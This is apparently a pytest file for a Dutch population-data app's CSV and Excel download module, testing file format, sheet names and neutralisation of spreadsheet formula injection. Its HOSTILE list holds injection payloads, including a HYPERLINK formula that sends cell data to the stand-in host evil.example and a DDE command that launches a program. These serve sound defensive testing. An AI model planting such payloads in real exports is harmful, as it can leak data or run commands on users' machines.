"""Download files: the same format on every page."""

from __future__ import annotations

import io
import zipfile

import polars as pl

from popmgmt.views import downloads

TABLE = pl.DataFrame({"Gemeente": ["Één (1)", "Twee (2)"], "Waarde": ["5,0 %", "onderdrukt (< 5)"]})


def test_csv_is_comma_separated_utf8_with_bom_and_reads_back() -> None:
    data = downloads.csv_bytes(TABLE)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0] == "Gemeente,Waarde"
    assert pl.read_csv(io.BytesIO(data), infer_schema=False).equals(TABLE)


def test_xlsx_holds_the_table_and_the_notes_on_their_own_sheet() -> None:
    xlsx = downloads.xlsx_bytes(TABLE, sheet="gemeenten/2024", notes=["Bron: demo"])
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        workbook = book.read("xl/workbook.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert 'name="gemeenten2024"' in workbook
    assert 'name="Toelichting"' in workbook
    for expected in ("Één (1)", "onderdrukt (&lt; 5)", "Bron: demo"):
        assert expected in strings


def test_sheet_names_are_made_valid() -> None:
    assert downloads.sheet_name("a/b:c*d?e[f]" + "x" * 40) == ("abcdef" + "x" * 40)[:31]
    assert downloads.sheet_name("///") == "Tabel"


# --- formula injection ------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "Label": [*HOSTILE, "gewoon", "5,0 %"],
            "Categorie": pl.Series([*HOSTILE, "a", "b"], dtype=pl.Categorical),
            "Getal": [-1.5] * (len(HOSTILE) + 2),
        }
    ).with_columns(pl.col("Getal").alias("=kolom"))


def test_neutralise() -> None:
    for text in HOSTILE:
        assert downloads.neutralise(text) == f"'{text}"
    for text in ("gewoon", "5,0 %", "", " =niet vooraan", "'=al geneutraliseerd"):
        assert downloads.neutralise(text) == text


def test_csv_cells_never_start_a_formula() -> None:
    """Given text that a spreadsheet would run as a formula, every such CSV cell (and
    column name) starts with `'`; plain text and numbers are unchanged."""
    data = downloads.csv_bytes(_hostile_frame())
    back = pl.read_csv(io.BytesIO(data), infer_schema=False)
    assert back.columns == ["Label", "Categorie", "Getal", "'=kolom"]
    assert back["Label"].to_list() == [f"'{t}" for t in HOSTILE] + ["gewoon", "5,0 %"]
    assert back["Categorie"].to_list()[: len(HOSTILE)] == [f"'{t}" for t in HOSTILE]
    assert set(back["Getal"].to_list()) == {"-1.5"}  # a negative number stays a number


def _xlsx_cells(xlsx: bytes) -> tuple[list[str], str]:
    """The shared strings of the workbook and the XML of the first sheet."""
    import re  # noqa: PLC0415
    from html import unescape  # noqa: PLC0415

    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    values = [
        unescape(v).replace("_x000D_", "\r")
        for v in re.findall(r"<t[^>]*>(.*?)</t>", strings, re.DOTALL)
    ]
    return values, sheet


def test_xlsx_cells_are_text_and_never_start_a_formula() -> None:
    xlsx = downloads.xlsx_bytes(_hostile_frame(), notes=["=HYPERLINK(1)", "Bron: demo"])
    strings, sheet = _xlsx_cells(xlsx)
    assert "<f>" not in sheet  # no formula cell at all
    for text in HOSTILE:
        assert f"'{text}" in strings, text
        assert text not in strings
    assert "'=kolom" in strings
    assert "'=HYPERLINK(1)" in strings  # the notes sheet too
    assert "Bron: demo" in strings


def test_every_export_goes_through_downloads() -> None:
    """No page or page helper writes a CSV or spreadsheet itself (it would skip the
    formula neutralisation): only `popmgmt.views.downloads` does (and the demo generator,
    which writes raw input files, not downloads)."""
    from pathlib import Path  # noqa: PLC0415

    root = Path(__file__).resolve().parents[2]
    writers = ("write_csv(", "write_excel(", "xlsxwriter", "to_csv(", "csv.writer(")
    allowed = {"downloads.py", "demo.py", "build.py", "transform.py", "validate.py", "cli.py"}
    files = [*(root / "src" / "popmgmt").rglob("*.py"), *(root / "pages").glob("*.py")]
    offenders = [
        f"{path.name}: {w}"
        for path in files
        if path.name not in allowed
        for w in writers
        if w in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
